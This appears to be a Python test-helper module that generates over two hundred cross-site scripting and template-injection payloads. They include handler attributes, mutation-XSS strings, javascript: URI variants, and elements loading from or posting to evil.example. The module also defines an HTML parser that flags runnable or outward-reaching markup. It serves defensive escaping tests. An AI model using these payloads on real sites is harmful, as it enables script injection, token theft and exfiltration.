"""Things that run where words are not kept words, and a witness that reads a page for what could run.

Each payload would call `pwn()`, fetch from evil.example or change the page if it came through as markup.
"""

from html.parser import HTMLParser
from itertools import product

CALL = "pwn(1)"
HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"),
    *(
        "onbegin",
        "onwheel",
        "onpageshow",
        "onhashchange",
        "onbeforeinput",
        "onscrollend",
        "oncontentvisibilityautostatechange",
    ),
)
TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "marquee", "a href=# autofocus")
BREAKS = ("", '">', "'>", "-->", "</script>", "</textarea>", "</title>", "</style>", "]]>", "</noscript>")
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<svg><script>{CALL}</script></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken></form>",
    "<button formaction=https://evil.example/>x</button>",
    "<img src=https://evil.example/x.png>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=background:url(https://evil.example/)>x</p>",
    f"<div hx-get=/me/delete/ hx-trigger=load>x</div><div hx-on:click={CALL}>",
    "<div data-hx-post=/me/delete/ data-hx-trigger=load>x</div>",
    "<hx-partial hx-target=body>x</hx-partial>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<xml:script xmlns:xml='http://www.w3.org/1999/xhtml'>{CALL}</xml:script>",
    f"<!--><script>{CALL}</script>-->",
)
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript://%0a{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:evil.example",
    f"feed:javascript:{CALL}",
    f"&#106;avascript:{CALL}",
    "file:///etc/passwd",
)
TEMPLATES = ("{{7*7}}", "{% load x %}", "${7*7}", "<%= 7*7 %>", "{{constructor.constructor('pwn(1)')()}}")

PAYLOADS = [
    *(f"<{tag} {handler}={CALL}>" for tag, handler in product(TAGS, HANDLERS)),
    *(f"{lead}<img src=x onerror={CALL}>" for lead in BREAKS[1:]),
    *(f"{lead}<svg/onload={CALL}>" for lead in BREAKS),
    *(f"{lead} {handler}={CALL} x=" for lead, handler in product(('"', "'", "`"), HANDLERS[:6])),
    *ELEMENTS,
    *ADDRESSES,
    *TEMPLATES,
]
assert len(PAYLOADS) >= 200

ALLOWED_SCHEMES = ("http:", "https:", "mailto:")
LOADING = {"img", "iframe", "object", "embed", "link", "script", "video", "audio", "source", "base", "use", "image"}


class Witness(HTMLParser):
    """Reads a page as a browser would and notes whatever could run or reach out."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.script = None

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if tag in {"iframe", "object", "embed", "base", "marquee", "math"}:
            self.found.append(f"<{tag}>")
        if tag == "script":
            kind = values.get("type", "")
            if not values.get("src", "").startswith("/static/") and kind not in {"application/json", "importmap"}:
                self.found.append(f"<script {values}>")
            self.script = kind
        if tag == "meta" and "http-equiv" in values:
            self.found.append("<meta http-equiv>")
        if tag == "style":
            self.found.append("<style>")
        for name, value in values.items():
            self.attribute(tag, name, value.strip(" \t\r\n\x00\x01").lower())

    def attribute(self, tag, name, value):
        if name.startswith("on") or name == "style" or name.startswith(("hx-on", "data-hx")):
            self.found.append(f"<{tag} {name}={value[:60]!r}>")
        if name.startswith("hx-") and (
            "evil" in value or "pwn(" in value or value.startswith(("http:", "https:", "//"))
        ):
            self.found.append(f"<{tag} {name}={value[:60]!r}>")
        if name in {"href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href", "srcdoc"}:
            bare = "".join(char for char in value if char > " ")
            scheme = bare.partition(":")[0] + ":" if ":" in bare.partition("/")[0] else ""
            if scheme and not bare.startswith(ALLOWED_SCHEMES) and not bare.startswith("data:image/"):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
            if tag in LOADING | {"form", "button"} and (bare.startswith("//") or "evil.example" in bare):
                self.found.append(f"<{tag} {name}={value[:60]!r}> reaches out")
            if tag == "use" and not bare.startswith(("/static/", "#")):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self.script = None

    def handle_data(self, data):
        if self.script is not None and "</" in data:
            self.found.append("markup inside a script")


def dangers(page):
    """What in this page could run, in words. A `<b>` after a script that ended early counts."""
    witness = Witness()
    witness.feed(page)
    witness.close()
    if "</script><b>" in page:
        witness.found.append("a script that ends early")
    return witness.found
